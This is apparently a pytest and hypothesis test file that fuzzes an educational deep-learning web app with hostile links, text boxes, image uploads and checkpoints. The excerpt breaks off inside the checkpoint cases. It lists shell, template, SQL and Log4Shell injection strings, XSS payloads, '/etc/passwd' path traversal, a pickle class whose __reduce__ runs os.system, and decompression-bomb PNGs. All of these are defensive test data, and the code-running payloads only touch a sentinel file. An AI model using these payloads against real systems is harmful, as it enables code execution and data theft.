"""Hostile input: whatever a link, a text box or an uploaded file holds, the app explains or ignores it.

* every query parameter of every page (names found by a static scan of the code, cross-checked against the names
  the pages really read), filled with long, unicode, control-character, code-like and out-of-range values;
* every free-text box (shapes, the quiz answer, typed points, the formula, typed grids);
* uploads: images (through ``core.images.load_image``, AppTest and a real browser) and checkpoints;
* a static scan of the app code: no eval/exec, no unpickling without ``weights_only=True``, no unvetted raw HTML.

Nothing may raise, show the page-error box, render a payload as HTML, or run anything: the payloads that would run
code all ``touch`` one sentinel file, which must never appear.
"""

from __future__ import annotations

import ast
import contextlib
import functools
import io
import json
import logging
import os
import pickle
import re
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest import mock
from urllib.parse import quote, urlsplit

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as hst
from PIL import Image

from core.checkpoints import FORMAT, CheckpointError, load_checkpoint, save_checkpoint
from core.images import MAX_PIXELS, MAX_SIDE, MAX_UPLOAD_BYTES, ImageError, load_image
from core.models import CNNConfig, ConvBlock, MLPConfig, build_model
from tests.conftest import PAGE_PARTS, PAGES, ROOT, app_test, assert_clean
from tests.helpers.figures import charts
from ui.plots.kept import loader_script
from ui.shell import url_state
from ui.shell.i18n import LANGUAGES, resolve_language, translate

SENTINEL = Path(tempfile.gettempdir()) / f"dlp_hostile_pwned_{os.getpid()}"
"""Every payload that would run code creates this file; it must never exist."""


def fuzz(examples: int) -> settings:
    """Bounded and reproducible: the examples are the same on every run, so the runtime is too."""
    return settings(max_examples=examples, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True,
                    database=None, phases=(Phase.explicit, Phase.generate))  # no shrinking: a failure stays fast


@pytest.fixture(autouse=True)
def no_sentinel() -> Iterator[None]:
    SENTINEL.unlink(missing_ok=True)
    yield
    assert not SENTINEL.exists(), "a hostile payload was executed"


# ---- the payloads ---------------------------------------------------------------------------------------------

CODE = [
    f"__import__('os').system('touch {SENTINEL}')",
    f"$(touch {SENTINEL})",
    f"`touch {SENTINEL}`",
    f"; touch {SENTINEL} #",
    f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch {SENTINEL}') }}}}",
    f"exec(\"import os; os.system('touch {SENTINEL}')\")",
    "{{7*7}}", "${7*7}", "#{7*7}", "{0.__class__.__mro__}", "%s%s%s%n", "${jndi:ldap://example.invalid/a}",
    "'; DROP TABLE users; --", "\" OR 1=1 --", "../../../../etc/passwd", "%00", "%3Cscript%3E", "&amp;&lt;",
]
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<svg onload=alert(1)>", "javascript:alert(1)", "[link](javascript:alert(1))",
    "![x](https://example.invalid/x.png)", "<b>bold</b>", "**bold** _it_ `code`", "$$\\x$$", ":material/home:",
]
UNICODE = [
    "卷积核", "形状（3，1，4）", "مرحبا بالعالم", "\u202eevil\u202c", "\u200b", "\ufeff1", "🧠🔥", "👨\u200d👩\u200d👧",
    "e\u0301\u0301\u0301\u0301", "Z̷̢̛̪a̸̡͎l̴̢̛g̷o̵", "３", "٣", "Ⅻ", "ｘ**２", "\u2212 1", "\U0001d7d9",
]
CONTROL = ["", " ", "\x00", "a\x00b", "\r\n", "\n\n\n", "\t", "\x1b[31mred\x1b[0m", "\x7f", "\u2028", "\x08\x08"]
NUMBERS = [
    "nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e309", "-1e309", "1e-400", "-0", "-0.0", "+0", "0x10", "0b1",
    "1_000", "1e3", "10**100", str(2**63), str(-(2**63) - 1), str(2**64), "9" * 400, "-" + "9" * 5000, "0" * 100 + "1",
    "1.5", "-1", "1e2", "3.", ".5", " 7 ", "1,2", "1;2", "[1]", "{}", "None", "True", "null", "🔟",
    "0", "1", "2", "3", "12", "16", "99", "999", "0.99", "1", "2",  # valid at the edges of many ranges
]
LONG = ["A" * 10_000, "9" * 10_000, "卷" * 10_000, ",".join(["relu"] * 3000), "(" * 5000 + ")" * 5000]
CORPUS = CODE + HTML + UNICODE + CONTROL + NUMBERS + LONG
MARKERS = ("<script", "<img", "<iframe", "<svg", "onerror", "onload", "javascript:")
"""Pieces of the HTML payloads that must never reach an element rendered as raw HTML."""


def _long(piece: str, n: int) -> str:
    return (piece * (n // max(len(piece), 1) + 1))[:n]


hostile = hst.one_of(
    hst.sampled_from(CORPUS),
    hst.text(hst.characters(exclude_categories=("Cs",)), max_size=40),
    hst.integers(-(2**200), 2**200).map(str),
    hst.integers(-2, 20).map(str),
    hst.floats(allow_nan=True, allow_infinity=True).map(repr),
    hst.builds(_long, hst.sampled_from(["a", "<script>", "é\u0301", "🧠", "\x00", "1,"]), hst.integers(200, 10_000)),
    hst.lists(hst.sampled_from(CORPUS[:20] + NUMBERS), min_size=2, max_size=4).map(" ".join),
)
"""One hostile value for a link parameter or a text box."""


# ---- where the app shows what it got ----------------------------------------------------------------------------


def _nodes(node) -> Iterator[object]:
    yield node
    children = getattr(node, "children", None)
    for child in (children.values() if isinstance(children, dict) else children or ()):
        yield from _nodes(child)


def assert_no_raw_html(at) -> None:
    """No element of the page is rendered as raw HTML with a payload in it (``st.html``, or markdown with
    ``unsafe_allow_html``)."""
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        if proto is None:
            continue
        raw = getattr(node, "type", "") == "html" or bool(getattr(proto, "allow_html", False))
        body = getattr(proto, "body", "")
        if raw and isinstance(body, str) and not is_the_plotly_loader(body):
            found = [m for m in MARKERS if m in body.lower()]
            assert not found, f"raw HTML element shows {found}: {body[:200]!r}"


def is_the_plotly_loader(body: str) -> bool:
    """Whether ``body`` is exactly the app's own script that loads plotly.js (``ui.plots.kept.loader_script``) from
    the component file server, and nothing else."""
    src = re.search(r'loadPlotly\("([^"]*)"\);\n</script>$', body)
    return bool(src and re.fullmatch(r"/component/[\w.]+/plotly\.min\.js", src[1]) and body == loader_script(src[1]))


class _Log(logging.Handler):
    """What ``ui.shell.errors.run_page`` logged, to show the traceback when a page fails."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(self.format(record))


@contextlib.contextmanager
def watched() -> Iterator[tuple[list, _Log]]:
    """Record every ``UrlParam.parse`` call (the parameter, the URL text, the result) and the page's error log."""
    calls: list = []
    real = url_state.UrlParam.parse

    def parse(self, raw):
        result = real(self, raw)
        calls.append((self, raw, result))
        return result

    log, logger = _Log(), logging.getLogger("dlplayground")
    logger.addHandler(log)
    try:
        with mock.patch.object(url_state.UrlParam, "parse", parse):
            yield calls, log
    finally:
        logger.removeHandler(log)


def assert_page_ok(at, log: _Log) -> None:
    try:
        assert_clean(at)
    except AssertionError as error:
        raise AssertionError(f"{error}\n{chr(10).join(log.records)[-3000:]}") from None
    assert not SENTINEL.exists(), "a hostile payload was executed"
    assert_no_raw_html(at)
    assert at.title, "the page drew no title"


# ---- 1. every query parameter of every page ---------------------------------------------------------------------

LINKS = {spec.url_path: {**url_state.APP_LINK, **spec.link()} for spec in PAGES}
"""What each page's link may say, as the page declares it (``LINK`` in ``ui.lessons.<name>``, its ``part`` and
``lang``): the names fuzzed below. A widget that reads an undeclared name fails as it is drawn
(``url_state.check_declared``), so the declaration cannot fall behind the code."""
URL_NAMES = sorted(set().union(*LINKS.values()))
"""Every declared query parameter name of any page."""


def test_every_page_declares_a_link_and_every_name_is_read():
    """Each declaration is well-formed, and each declared name is read by its page in some part and mode (a stale
    declaration would widen what a link may say for nothing)."""
    for name, link in LINKS.items():
        assert all(isinstance(spec, url_state.LinkSpec) for spec in link.values()), name
        read = set()
        for part in SPECS[name].parts or (None,):
            for modes in MODE_SETS:
                query = {"lang": "en", **modes, **({"part": part} if part else {})}
                with watched() as (calls, log):
                    at = app_test(query, page=SPECS[name].script)
                assert_page_ok(at, log)
                read |= {param.name for param, _raw, _result in calls}
        assert set(link) - {"lang"} - READ_LATER.get(name, set()) - read == set(), f"{name} declares unread names"


def test_a_name_means_one_thing_on_a_page():
    """Every widget of a page that reads ``?name=`` accepts the same kind of value (a number, a choice, a flag, …)."""
    for name in LINKS:
        kinds: dict[str, set] = {}
        for part in SPECS[name].parts or (None,):
            with watched() as (calls, _log):
                app_test({"lang": "en", **MODE_SETS[0], **({"part": part} if part else {})}, page=SPECS[name].script)
            for param, _raw, _result in calls:
                kinds.setdefault(param.name, set()).add(type(param.accepts))
        assert {n: k for n, k in kinds.items() if len(k) > 1} == {}, name


def test_a_widget_outside_its_declaration_fails_as_it_is_drawn():
    """The check behind the declarations: an undeclared name, or a range wider than declared, raises."""
    url_state.declare_link("test", {"lr": url_state.Number(0.0, 1.0)})
    try:
        url_state.check_declared("lr", url_state.Number(0.0, 0.5))
        url_state.check_declared("lr", url_state.Choice((0.1, 0.3)))
        with pytest.raises(url_state.UndeclaredLink):
            url_state.check_declared("steps", url_state.Number(0, 10, whole=True))
        with pytest.raises(url_state.UndeclaredLink):
            url_state.check_declared("lr", url_state.Number(0.0, 2.0))
        with pytest.raises(url_state.UndeclaredLink):
            url_state.check_declared("lr", url_state.Flag())
        with pytest.raises(url_state.UndeclaredLink):
            url_state.check_declared("lr", url_state.Choice(("fast",)))
    finally:
        url_state.declare_link("test", {})


SPECS = {spec.url_path: spec for spec in PAGES}
MODES = {"kernel": ("custom",), "src": ("typed", "digit"), "plane": ("custom",), "ex": ("custom",),
         "phase": ("inference",), "model": ("cnn", "mlp"), "target": ("sine", "own"),
         "source": ("picture",), "pad": ("custom",), "edges": ("1",), "mix": ("custom",)}
"""Valid values that open the controls hidden behind a choice (a custom kernel's ``w``, a typed grid, a formula,
typed shapes, …), so that those parameters get hostile values too. Checked below against what the pages accept."""
MODE_SETS = [{name: values[0] for name, values in MODES.items()} | {"layers": "8", "blocks": "6"},
             {name: values[-1] for name, values in MODES.items()} | {
                 "kernel": "sobel_x", "kind": "tensor4", "methods": "sgd,momentum,nesterov,rmsprop,adagrad,adam"}]
"""The modes at once: the first value of each, with every row of the compound controls drawn (``l1`` … ``l8``,
``b1`` … ``b6``); then the last (the other mode of ``src``, ``model``, ``target``), every optimizer and axis drawn."""
READ_LATER = {"cnn_trainer": {"source", "image", "class"}}
"""Declared names a page reads only once something has happened (the trainer's "try it" needs a trained network; its
choice of a class's drawings, a teacher whose room asked for drawings)."""


def _effective_language(query: dict[str, str]) -> str:
    return resolve_language(query.get("lang"), None)[0]


def _toasts_expected(calls, lang: str) -> list[tuple[str, set[str]]]:
    """For each link value a page refused: its name and the notices that may announce it (the value quoted as code,
    so that markdown in it is shown, not rendered)."""
    expected = []
    for param, raw, (value, rejected) in calls:
        if rejected:
            texts = {translate("url.bad_value", lang, name=param.name, value=url_state.shown(raw), default=default)
                     for default in (param.encode(value), value)}  # the kernel editor quotes the default as text
            expected.append((param.name, texts))
    return expected


def run_link(spec, query: dict[str, str]) -> tuple[object, list]:
    """Open ``spec`` with ``query`` in its URL; check the page, the notices and the names it read."""
    with watched() as (calls, log):
        at = app_test(query, page=spec.script)
    assert_page_ok(at, log)
    lang = _effective_language(query)
    toasts = {toast.value for toast in at.toast}
    for name, texts in _toasts_expected(calls, lang):
        assert toasts & texts, f"no notice for the refused value of {name!r}: {sorted(toasts)[:5]}"
    if query.get("lang") not in (None, *LANGUAGES):
        assert translate("url.bad_lang", lang, value=url_state.shown(query["lang"], 20)) in toasts
    for param, _raw, _result in calls:
        assert param.name in LINKS[spec.url_path], f"{param.name!r} is not declared by {spec.url_path}"
    return at, calls


@pytest.mark.parametrize(("spec", "part"), PAGE_PARTS, ids=[f"{s.url_path}-{p}" for s, p in PAGE_PARTS])
def test_every_link_parameter_of_every_part_survives_hostile_values(spec, part):
    """Every known name at once, each with another payload of the corpus; the controls behind a mode are opened."""
    index = PAGE_PARTS.index((spec, part))
    query = {name: CORPUS[(index * 7 + n) % len(CORPUS)] for n, name in enumerate(URL_NAMES)}
    query.update({name: values[0] for name, values in MODES.items()})
    query["lang"] = list(LANGUAGES)[index % len(LANGUAGES)]
    if part is not None:
        query["part"] = part
    else:
        query.pop("part")
    if part == "fit":  # it trains a network: a small one, for time (the text box test below does the same)
        query.update(steps="100", fwidth="4")
    _at, calls = run_link(spec, query)
    used = {param.name for param, _raw, _result in calls}
    assert used, "the page read no parameter from its link"
    for name in MODES.keys() & used:  # the mode values are still valid options of the page
        assert not any(p.name == name and result[1] for p, _raw, result in calls), name


@fuzz(10)
@given(data=hst.data())
def test_random_pages_with_random_hostile_links(data):
    spec, part = data.draw(hst.sampled_from(PAGE_PARTS), label="page")
    names = data.draw(hst.lists(hst.sampled_from(URL_NAMES), min_size=1, max_size=25, unique=True), label="names")
    query = {name: data.draw(hostile, label=name) for name in names}
    for name in MODES.keys() & set(names):
        query[name] = data.draw(hst.sampled_from([*MODES[name], query[name]]), label=name)
    query["lang"] = data.draw(hst.sampled_from([*LANGUAGES, query.get("lang", "xx")]), label="lang")
    if part is not None:
        query["part"] = data.draw(hst.sampled_from([part, part, query.get("part", "")]), label="part")
    run_link(spec, query)


@pytest.mark.parametrize(("name", "query"), [
    ("depth", {"part": "tube", "layers": "1"}),  # one layer: the layer slider would run from 1 to 1
    ("pooling", {"part": "steps", "n": "2"}),  # a 1 × 1 output: the cell slider would run from 0 to 0
    ("pooling", {"part": "steps", "src": "typed", "grid": "5 1; 2 3"}),
    ("convolution", {"part": "steps", "src": "typed", "grid": "5", "p": "1"}),  # padded: a 1 × 1 output
])
def test_a_link_to_a_one_cell_view_draws_it_without_a_slider(name, query):
    with watched() as (_calls, log):
        at = app_test({"lang": "en", **query}, page=SPECS[name].script)
    assert_page_ok(at, log)
    assert charts(at)


def test_every_url_decoder_refuses_hostile_text_without_raising():
    """The decoders of the pages with their own (a conv block, a depth layer, a kernel, a multiple choice), called
    directly with the whole corpus: a value or a refusal, never an exception."""
    with watched() as (calls, log):
        for page, part in [("cnn_trainer", "train"), ("depth", "stack"), ("convolution", "image"),
                           ("gradient_descent", "two_d"), ("activations", "gallery")]:
            at = app_test({"lang": "en", "part": part, "kernel": "custom", "plane": "custom"}, page=SPECS[page].script)
            assert_page_ok(at, log)
    params = {param.name: param for param, _raw, _result in calls}
    assert {"b1", "l1", "blocks", "layers", "kw", "f", "methods", "acts"} <= params.keys()
    for param in params.values():
        for raw in CORPUS:
            value, rejected = param.parse(raw)
            assert rejected or value is not None


# ---- 2. every text box ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class TextBox:
    page: str
    query: dict[str, str]
    kind: str  # "text_input" or "text_area"
    key: str
    submit: bool = False  # inside a form: press its submit button


TEXT_BOXES = [
    TextBox("tensors", {"part": "broadcast", "ex": "custom"}, "text_input", "tensors_a"),
    TextBox("tensors", {"part": "broadcast", "ex": "custom"}, "text_input", "tensors_c"),
    TextBox("tensors", {"part": "quiz"}, "text_input", "tensors_answer_1", submit=True),
    TextBox("activations", {"part": "fit", "target": "own", "steps": "100", "fwidth": "4"}, "text_area",
            "activations_points"),
    TextBox("gradient_descent", {"part": "two_d", "plane": "custom"}, "text_input", "gradient_descent_formula"),
    TextBox("pooling", {"part": "steps", "src": "typed"}, "text_area", "pooling_grid"),
    TextBox("convolution", {"part": "steps", "src": "typed"}, "text_area", "convolution_grid"),
]
FORMULAS = ["exp(exp(exp(x*y)))", "x**1e308", "(" * 60 + "x" + ")" * 60, "1/0", "log(-1)", "sqrt(x)", "x^y^x^y",
            "__import__", "x.__class__", "lambda: 0", "open('/etc/passwd')", "x if y else 1", "x @ y", "2x",
            "sin(x, y)", "e**x**x", "1e999*x", "x**2 + y**2"]
TEXTS = [*FORMULAS, "(3, 1, 4)", "3x4", "(10001, 1)", "(" + ",".join(["1"] * 7) + ")", "-1", "2.5", "error",
         "0, 0\n1, 1", "0,0\n" * 600, "1 2; 3", "1e400 1", "1 2;3 4;" * 20]


def expected_message(box: TextBox, text: str, lang: str) -> str | None:
    """The catalogue message the page must show for ``text``, or None when the text is accepted."""
    from core.curve_fit import PointsError, parse_points
    from core.expr import ExprError
    from core.kernel_text import KernelError, parse_kernel
    from core.surfaces import custom_surface
    from core.tensors import ShapeError, parse_answer, parse_shape

    try:
        if box.key in ("tensors_a", "tensors_c"):
            if box.key == "tensors_c" and not text.strip():
                return None
            parse_shape(text)
        elif box.key.startswith("tensors_answer"):
            if text.strip():
                parse_answer(text.strip())
        elif box.key == "activations_points":
            parse_points(text)
        elif box.key == "gradient_descent_formula":
            custom_surface(text)
        else:
            parse_kernel(text, max_side=16)
    except ShapeError as e:
        name = "?" if box.submit else box.key[-1]
        return translate("tensors.shape_error." + e.code, lang, token=e.token, name=name)
    except PointsError as e:
        return translate("activations.fit.error." + e.code, lang, line=e.line or "?")
    except ExprError as e:
        return translate("gradient_descent.expr_error." + e.code, lang, token=e.token, position=e.position + 1)
    except KernelError as e:
        return translate("common.grid.error." + e.code, lang, row=(e.row or 0) + 1, col=(e.col or 0) + 1, side=16)
    return None


@pytest.mark.parametrize("box", TEXT_BOXES, ids=[b.key for b in TEXT_BOXES])
@fuzz(2)
@given(texts=hst.lists(hst.one_of(hostile, hst.sampled_from(TEXTS)), min_size=2, max_size=3))
def test_every_text_box_explains_or_accepts_hostile_text(box, texts):
    """Typed one after the other into the same session (``set_value``: a client that ignores ``max_chars``);
    after each, the page shows the parser's own message for it, or uses it."""
    lang = "zh" if box.key.endswith(("c", "grid")) else "en"
    with watched() as (_calls, log):
        at = app_test({"lang": lang, **box.query}, page=SPECS[box.page].script)
        assert_page_ok(at, log)
        for text in texts:
            widget = getattr(at, box.kind)(key=box.key)
            widget.set_value(text)
            text = text[: widget.proto.max_chars or None]  # the server keeps at most max_chars of what it gets
            if box.submit:
                at.button[[b.proto.label for b in at.button].index(translate("tensors.quiz.check", lang))].click()
            at.run()
            assert_page_ok(at, log)
            message = expected_message(box, text, lang)
            errors = [e.value for e in at.error]
            if message is not None:
                assert message in errors, (text[:80], message, errors)


cell = hst.one_of(hostile, hst.none(), hst.floats(allow_nan=True, allow_infinity=True), hst.integers(-(2**70), 2**70),
                 hst.booleans())


@fuzz(150)
@given(text=hostile, cells=hst.lists(hst.lists(cell, max_size=5), max_size=5))
def test_every_parser_of_typed_text_answers_with_its_own_error(text, cells):
    """The parsers behind the text boxes and the kernel editor's cells (a data editor, so not text to type into):
    a value, or their own error with a code that has a message; never another exception."""
    from core.curve_fit import PointsError, parse_points
    from core.expr import ExprError, parse_function
    from core.kernel_text import KernelError, kernel_from_cells, parse_kernel
    from core.tensors import ShapeError, parse_answer, parse_shape

    for parse, error in [(parse_shape, ShapeError), (parse_answer, ShapeError), (parse_points, PointsError),
                         (parse_function, ExprError), (parse_kernel, KernelError)]:
        with contextlib.suppress(error):
            parse(text)
    with contextlib.suppress(KernelError):
        w = kernel_from_cells(cells)
        assert np.isfinite(w).all()


# ---- 3. uploads -------------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of ``width`` × ``height`` black pixels: megapixels that compress to kilobytes."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row * 1000) for _ in range(height // 1000)) + packer.compress(
        row * (height % 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")


def encoded(array: np.ndarray, fmt: str = "PNG", **options) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(array).save(buffer, format=fmt, **options)
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10"/></svg>'
GRADIENT = np.tile(np.linspace(0, 255, 20_000, dtype=np.uint8), (40, 1))
SMALL = np.random.default_rng(0).integers(0, 255, (40, 40, 3), dtype=np.uint8)


def upload_cases() -> list[tuple[str, bytes, str]]:
    """(file name, bytes, ImageError code or "ok")."""
    png = encoded(SMALL)
    return [
        ("empty.png", b"", "empty"),
        ("truncated.png", png[: len(png) // 2], "corrupt"),
        ("bomb.png", bomb_png(30_000, 30_000), "decompression_bomb"),
        ("over_own_limit.png", bomb_png(9_000, 9_000), "decompression_bomb"),  # 81 M: under Pillow's, over ours
        ("notes.png", b"Dear diary, this is text in a file called .png\n" * 20, "not_image"),
        ("drawing.png", SVG, "not_image"),  # other extensions never reach the app: the uploader refuses them
        ("animated.png", encoded(SMALL, "GIF"), "unsupported_format"),
        ("scan.png", encoded(SMALL, "TIFF"), "unsupported_format"),
        ("huge.png", png + b"\x00" * (MAX_UPLOAD_BYTES + 1 - len(png)), "too_big_file"),
        ("header_only.png", png[:33], "not_image"),  # signature and IHDR, then nothing: no plugin can read it
        ("wide.png", encoded(GRADIENT), "ok"),
    ]


def test_load_image_refuses_hostile_files_with_their_code():
    for name, data, code in upload_cases():
        if code == "ok":
            loaded = load_image(data)
            assert loaded.pixels.shape == (1, MAX_SIDE, 3) and loaded.downscaled, name  # 20000 × 40 → 512 × 1
            assert loaded.original_size == (20_000, 40)
            continue
        with pytest.raises(ImageError) as error:
            load_image(data)
        assert error.value.code == code, (name, error.value)
        for lang in LANGUAGES:  # every code has its own message in every language
            assert translate("image.error." + code, lang) != "image.error." + code
    assert MAX_PIXELS < 9_000 * 9_000 < Image.MAX_IMAGE_PIXELS  # over_own_limit.png: refused by the app's limit
    assert 2 * Image.MAX_IMAGE_PIXELS < 30_000 * 30_000  # bomb.png: refused by Pillow as soon as it is opened


@fuzz(120)
@given(data=hst.binary(max_size=300), seed=hst.sampled_from(["PNG", "JPEG", "BMP", "WEBP"]),
       cut=hst.integers(0, 2000), flips=hst.lists(hst.tuples(hst.integers(0, 10**6), hst.integers(0, 255)),
                                                  max_size=6))
def test_damaged_images_are_refused_or_read(data, seed, cut, flips):
    for blob in (data, b"\x89PNG\r\n\x1a\n" + data, b"\xff\xd8\xff" + data, b"BM" + data):
        with contextlib.suppress(ImageError):
            load_image(blob)
    damaged = bytearray(encoded(SMALL, seed))
    for position, value in flips:
        damaged[position % len(damaged)] = value
    damaged = damaged[: max(cut, 1)] if cut < len(damaged) else damaged
    try:
        loaded = load_image(bytes(damaged))
    except ImageError:
        return
    assert np.isfinite(loaded.pixels).all() and 0 <= loaded.pixels.min() <= loaded.pixels.max() <= 1


@pytest.mark.parametrize("lang", list(LANGUAGES))
def test_hostile_uploads_on_the_convolution_page_get_their_message(lang):
    """One session, the files one after the other: each gets its own catalogue message; then a built-in image
    works again."""
    with watched() as (_calls, log):
        at = app_test({"lang": lang, "part": "image", "image": "upload"}, page=SPECS["convolution"].script)
        assert_page_ok(at, log)
        cases = [c for c in upload_cases() if lang == "en" or c[0] in ("empty.png", "bomb.png", "notes.png",
                                                                         "wide.png")]
        for name, data, code in cases:
            at.file_uploader(key="convolution_upload").set_value((name, data, "image/png"))
            at.run()
            assert_page_ok(at, log)
            if code == "ok":
                caption = translate("image.downscaled", lang, width=20_000, height=40, side=MAX_SIDE)
                assert caption in [c.value for c in at.caption], name
            else:
                assert translate("image.error." + code, lang, max_side=MAX_SIDE) in [e.value for e in at.error], name
        at.selectbox(key="convolution_image").set_value("shapes").run()
        assert_page_ok(at, log)
        assert charts(at)


@pytest.mark.browser
def test_hostile_uploads_in_the_browser(page, server, tmp_path):
    """The real uploader: text named .png, a decompression bomb and a 20 000-pixel-wide image, one after the other in
    one session; each message is the catalogue's, and the page keeps working (the last one is drawn)."""
    from playwright.sync_api import expect

    from harness.browser import assert_healthy, wait_until_idle, watch_errors

    errors = watch_errors(page)
    cases = {name: (data, code) for name, data, code in upload_cases()}
    page.goto(f"{server.url}/convolution?lang=en&part=image&image=upload")
    wait_until_idle(page)
    for name in ["notes.png", "bomb.png", "wide.png"]:
        data, code = cases[name]
        path = tmp_path / name
        path.write_bytes(data)
        page.locator('[data-testid="stFileUploaderDropzoneInput"]').first.set_input_files(str(path))
        text = (translate("image.downscaled", "en", width=20_000, height=40, side=MAX_SIDE) if code == "ok"
                else translate("image.error." + code, "en"))
        page.get_by_text(text, exact=True).first.wait_for(timeout=60_000)
        wait_until_idle(page)
    expect(page.locator('[data-testid="stPlotlyChart"]').first).to_be_visible()
    assert_healthy(page, errors, server)


@pytest.mark.browser
def test_a_link_cannot_put_a_picture_or_a_link_into_a_notice(page, server):
    """The notice quotes the refused value as text: no <img> that would make every student's browser fetch a
    URL chosen by whoever wrote the link, no <a>."""
    from harness.browser import assert_healthy, wait_until_idle, watch_errors

    errors = watch_errors(page)
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    page.add_init_script(TOAST_RECORDER)  # a toast leaves after a few seconds: keep every state of each one
    value = "![x](http://127.0.0.1:9/p.png)[a](//e.x)"
    page.goto(f"{server.url}/pooling?lang={quote(LANG_PAYLOAD)}&part=steps&n={quote(value)}")
    wait_until_idle(page)
    page.wait_for_function("() => window.__toasts.filter(h => h.includes('<code')).length >= 2")
    toasts = page.evaluate("() => window.__toasts")
    assert not [html for html in toasts if re.search(r"<(img|a)\b", html)], toasts
    assert any(value[:39] in html for html in toasts) and any(LANG_PAYLOAD in html for html in toasts)
    assert not [url for url in fetched if urlsplit(url).netloc in ("127.0.0.1:9", "e.x")]
    assert_healthy(page, errors, server)


LANG_PAYLOAD = "![](//127.0.0.1:9/l)"  # 20 characters: the most of ?lang= that its notice quotes
TOAST_RECORDER = """window.__toasts = [];
new MutationObserver(() => document.querySelectorAll('[data-testid="stToast"]').forEach(toast => {
    if (!window.__toasts.includes(toast.innerHTML)) window.__toasts.push(toast.innerHTML);
})).observe(document, {childList: true, subtree: true, characterData: true});"""


# ---- 4. checkpoints ---------------------------------------------------------------------------------------------


class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {SENTINEL}",))


TINY = CNNConfig(blocks=(ConvBlock(4),), dense=())


def checkpoint_bytes(config=TINY, model=None) -> bytes:
    buffer = io.BytesIO()
    save_checkpoint(buffer, model if model is not None else build_model(config), config)
    return buffer.getvalue()


def torch_bytes(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def wrong_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/readme.txt", "no data.pkl here")
        archive.writestr("archive/data/0", b"\x00" * 16)
    return buffer.getvalue()


def zip_with_pickle(pickled: bytes) -> bytes:
    """A real checkpoint whose data.pkl is replaced by ``pickled``."""
    source, buffer = zipfile.ZipFile(io.BytesIO(checkpoint_bytes())), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.namelist():
            archive.writestr(item, pickled if item.endswith("data.pkl") else source.read(item))
    return buffer.getvalue()


def _good(**changes) -> dict:
    return {"format": FORMAT, "version": 1, "config_kind": "cnn", "config": TINY.to_json(),
            "state_dict": build_model(TINY).state_dict(), **changes}


def _huge_network() -> dict:
    """The issue's 20 KB checkpoint: 27 conv blocks of 512 channels (61 M weights, 48 GMAC an image), every weight a
    stride-0 view of one stored number, so the file stays small."""
    blocks = [{"channels": 512, "kernel": 3, "activation": "relu", "pooling": "none", "batch_norm": False}] * 27
    config = CNNConfig.from_json(json.dumps({"blocks": blocks, "dense": [], "global_pool": "avg"}))
    with torch.device("meta"):
        shapes = {k: v.shape for k, v in build_model(config).state_dict().items()}
    one = torch.zeros(1)
    return _good(config=config.to_json(), state_dict={k: one.expand(shape) for k, shape in shapes.items()})


CHECKPOINTS = {
    "pickle_runs_code": (lambda: pickle.dumps(Evil()), "not_a_checkpoint"),
    "pickle_in_checkpoint_runs_code": (lambda: torch_bytes({"format": FORMAT, "x": Evil()}), "not_a_checkpoint"),
    "evil_data_pkl_in_zip": (lambda: zip_with_pickle(pickle.dumps(Evil(), protocol=2)), "not_a_checkpoint"),
    "weights_of_another_network": (lambda: checkpoint_bytes(MLPConfig(hidden=(64,)), build_model(MLPConfig())),
                                   "mismatch"),
    "truncated": (lambda: checkpoint_bytes()[:200], "corrupt"),
    "truncated_half": (lambda: checkpoint_bytes()[: len(checkpoint_bytes()) // 2], "corrupt"),
    "empty": (lambda: b"", "corrupt"),
    "random_bytes": (lambda: np.random.default_rng(1).bytes(5000), "not_a_checkpoint"),
    "one_byte_pickle": (lambda: b"\x80", "corrupt"),
    "pickle_stack_underflow": (lambda: b"\x80\x02e", "corrupt"),
    "pickle_short_int": (lambda: b"r\x03\xe4", "corrupt"),
    "zip_wrong_structure": (wrong_zip, "corrupt"),
    "zip_garbage_pickle": (lambda: zip_with_pickle(b"\x80\x02q\xda\xcf\xac\x22\x80\x94KO"), "corrupt"),
    "not_a_dict": (lambda: torch_bytes([1, 2, 3]), "not_a_checkpoint"),
    "a_tensor": (lambda: torch_bytes(torch.zeros(3)), "not_a_checkpoint"),
    "version_2": (lambda: torch_bytes(_good(version=2)), "not_a_checkpoint"),
    "version_is_a_tensor": (lambda: torch_bytes(_good(version=torch.tensor([1, 2]))), "not_a_checkpoint"),
    "format_is_a_tensor": (lambda: torch_bytes(_good(format=torch.tensor([1]))), "not_a_checkpoint"),
    "kind_is_a_list": (lambda: torch_bytes(_good(config_kind=[1])), "corrupt"),
    "config_not_json": (lambda: torch_bytes(_good(config="{")), "corrupt"),
    "config_nested_deep": (lambda: torch_bytes(_good(config="[" * 100_000 + "]" * 100_000)), "corrupt"),
    "config_huge_dense": (lambda: torch_bytes(_good(config=json.dumps({"dense": [10**12]}))), "too_large"),
